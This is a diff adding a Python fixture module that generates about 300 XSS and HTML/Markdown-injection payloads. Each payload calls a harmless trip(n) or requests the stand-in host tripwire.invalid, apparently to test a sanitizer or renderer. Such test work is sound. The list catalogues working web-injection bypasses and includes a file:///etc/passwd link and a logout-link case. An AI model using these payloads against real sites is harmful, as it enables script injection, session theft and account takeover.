@@ -1,0 +1,153 @@
+"""Three hundred texts that would like to be more than text in a browser.
+
+Each calls `trip(n)`, asks for an address at `tripwire.invalid`, or leads away from the page, if
+anything of it is taken for HTML, for a script or for a style.
+"""
+
+from __future__ import annotations
+
+from itertools import product
+
+AWAY = "https://tripwire.invalid/{n}"
+
+RAW = (
+    "<script>trip({n})</script>",
+    "<ScRiPt>trip({n})</sCrIpT >",
+    "<script src=" + AWAY + "></script>",
+    "<script type=module>import('" + AWAY + "')</script>",
+    "<img src=x onerror=trip({n})>",
+    "<img src=" + AWAY + ">",
+    "<img srcset='" + AWAY + " 2x'>",
+    "<IMG SRC=/{n} OnErRoR='trip({n})'//",
+    "<svg onload=trip({n})>",
+    "<svg><script>trip({n})</script></svg>",
+    "<svg><a xlink:href=javascript:trip({n})><text y=20>a</text></a></svg>",
+    "<svg><animate onbegin=trip({n}) attributeName=x dur=1s>",
+    "<svg><use href=" + AWAY + "#a></use></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=trip({n})>",
+    "<math href=javascript:trip({n})>a</math>",
+    "<iframe src=javascript:trip({n})></iframe>",
+    "<iframe srcdoc='<script>parent.trip({n})</script>'></iframe>",
+    "<iframe src=" + AWAY + "></iframe>",
+    "<object data=" + AWAY + "></object>",
+    "<embed src=" + AWAY + ">",
+    "<video src=x onerror=trip({n}) autoplay></video>",
+    "<audio src=" + AWAY + " autoplay></audio>",
+    "<video poster=" + AWAY + "></video>",
+    "<body onload=trip({n})>",
+    "<details open ontoggle=trip({n})>a</details>",
+    "<input autofocus onfocus=trip({n})>",
+    "<select autofocus onfocus=trip({n})>",
+    "<textarea autofocus onfocus=trip({n})>",
+    "<a href=javascript:trip({n})>a</a>",
+    "<a href='jAvAsCrIpT&colon;trip({n})'>a</a>",
+    "<a href=data:text/html,<script>trip({n})</script>>a</a>",
+    "<a ping=" + AWAY + " href=#>a</a>",
+    "<form action=javascript:trip({n})><button>a</button></form>",
+    "<form><button formaction=javascript:trip({n})>a</button></form>",
+    "<meta http-equiv=refresh content='0;url=" + AWAY + "'>",
+    "<base href=" + AWAY + "/>",
+    "<link rel=stylesheet href=" + AWAY + ">",
+    "<link rel=prefetch href=" + AWAY + ">",
+    "<style>*{{background:url(" + AWAY + ")}}</style>",
+    "<style>@import '" + AWAY + "';</style>",
+    "<p style='background:url(" + AWAY + ")'>a</p>",
+    "<p style=animation-name:x onanimationstart=trip({n})>a</p>",
+    "<marquee onstart=trip({n})>a</marquee>",
+    "<template><script>trip({n})</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=trip({n})>'>",
+    "</title><script>trip({n})</script>",
+    "</textarea></pre></code></style><script>trip({n})</script>",
+    "--><script>trip({n})</script>",
+    "]]><script>trip({n})</script>",
+    "<!--><img src=x onerror=trip({n})>-->",
+    "<div onmouseover=trip({n}) onclick=trip({n}) tabindex=1>a</div>",
+    "\u2028<script>trip({n})</script>\u2029",
+    "<scr\0ipt>trip({n})</scr\0ipt>",
+    "\ufeff<script>trip({n})</script>",
+    "&lt;script&gt;trip({n})&lt;/script&gt;",
+    "&#60;img src=x onerror=trip({n})&#62;",
+    "<img/src='x'/onerror=trip({n})>",
+    "<img src='a' title='>' onerror='trip({n})'>",
+    "<x onpointerenter=trip({n}) onfocusin=trip({n}) contenteditable>a</x>",
+    "<portal src=" + AWAY + "></portal>",
+)
+"""HTML that would do something."""
+
+AROUND = (
+    "{0}",
+    "[a]({0})",
+    "> - {0}\n\n| a | b |\n|---|---|\n| {0} | `{0}` |",
+    "```html\n{0}\n```\n\n    {0}",
+)
+"""The places in Markdown that it is put into."""
+
+MARKDOWN = (
+    "[a](javascript:trip({n}))",
+    "[a](JaVaScRiPt:trip({n}))",
+    "[a](java\tscript:trip({n}))",
+    "[a](&#106;avascript:trip({n}))",
+    "[a](\x01javascript:trip({n}))",
+    "[a](data:text/html;base64,PHNjcmlwdD50cmlwKDEpPC9zY3JpcHQ+)",
+    "[a](vbscript:trip({n}))",
+    "[a](file:///etc/passwd)",
+    "![a](" + AWAY + ")",
+    '![a](x" onerror="trip({n}))',
+    "![a](javascript:trip({n}))",
+    "[![a](" + AWAY + ")](javascript:trip({n}))",
+    "<javascript:trip({n})>",
+    "[a]: javascript:trip({n})\n\n[a]",
+    "[a][b]\n\n[b]: <data:text/html,trip({n})> 'x'",
+    "[a](https://example.org '\" onmouseover=trip({n}) x=\"')",
+    "[a](<https://example.org\"onmouseover='trip({n})'>)",
+    'https://example.org/"onmouseover="trip({n})',
+    "https://example.org/<img src=x onerror=trip({n})>",
+    "`<img src=x onerror=trip({n})>`",
+    '```" onmouseover="trip({n})\na\n```',
+    "~~~</code></pre><script>trip({n})</script>\na\n~~~",
+    "```js\n</code></pre><script>trip({n})</script>\n```",
+    "# <script>trip({n})</script>",
+    "1. <img src=x onerror=trip({n})>",
+    "a\n<script>trip({n})</script>\n===",
+    "**<svg onload=trip({n})>**",
+    "*a<b onclick=trip({n})>c*",
+    "[<img src=x onerror=trip({n})>](https://example.org)",
+    "| <img src=x onerror=trip({n})> |\n|:-:|\n| a |",
+    "- [ ] <input autofocus onfocus=trip({n})>",
+    "[a](https://example.org){{onclick=trip({n})}}",
+    "[^1]: <script>trip({n})</script>\n\na[^1]",
+    "$$<script>trip({n})</script>$$",
+    ":::script\ntrip({n})\n:::",
+    "&#x3c;script&#x3e;trip({n})&#x3c;/script&#x3e;",
+    "\\<script>trip({n})\\</script>",
+    "<!-- <script>trip({n})</script> -->",
+    "<?php <script>trip({n})</script> ?>",
+    "<![CDATA[<script>trip({n})</script>]]>",
+    "<details><summary>a</summary><script>trip({n})</script></details>",
+    "[a](tel:1) [b](mailto:a@example.org?body=<script>trip({n})</script>)",
+    "[a](//tripwire.invalid/{n})",
+    "[a](/v1/logout)",
+    "[a](#<script>trip({n})</script>)",
+    '<https://example.org/"><script>trip({n})</script>>',
+    "www.example.org/<script>trip({n})</script>",
+    "\u202e<script>trip({n})</script>\u202c",
+    "```mermaid\nclick a call trip({n})\n```",
+    "```svg\n<svg onload=trip({n})>\n```",
+    "<a\nhref=javascript:trip({n})\n>a</a>",
+    "[a](blob:https://example.org/{n})",
+    "[a](view-source:javascript:trip({n}))",
+    "![a][b]\n\n[b]: " + AWAY,
+    "<img\nsrc=" + AWAY + "\n>",
+    "<style\n>@import url(" + AWAY + ")</style\n>",
+    "<table background=" + AWAY + "><tr><td>a</td></tr></table>",
+    "<body background=" + AWAY + ">",
+    "<input type=image src=" + AWAY + ">",
+    "<isindex action=javascript:trip({n}) type=image>",
+)
+"""Markdown that would do something."""
+
+
+def list_payloads() -> list[str]:
+    """All of them; the n-th trips over its own number."""
+    texts = [around.replace("{0}", raw) for raw, around in product(RAW, AROUND)] + list(MARKDOWN)
+    return [text.format(n=number) for number, text in enumerate(texts)]
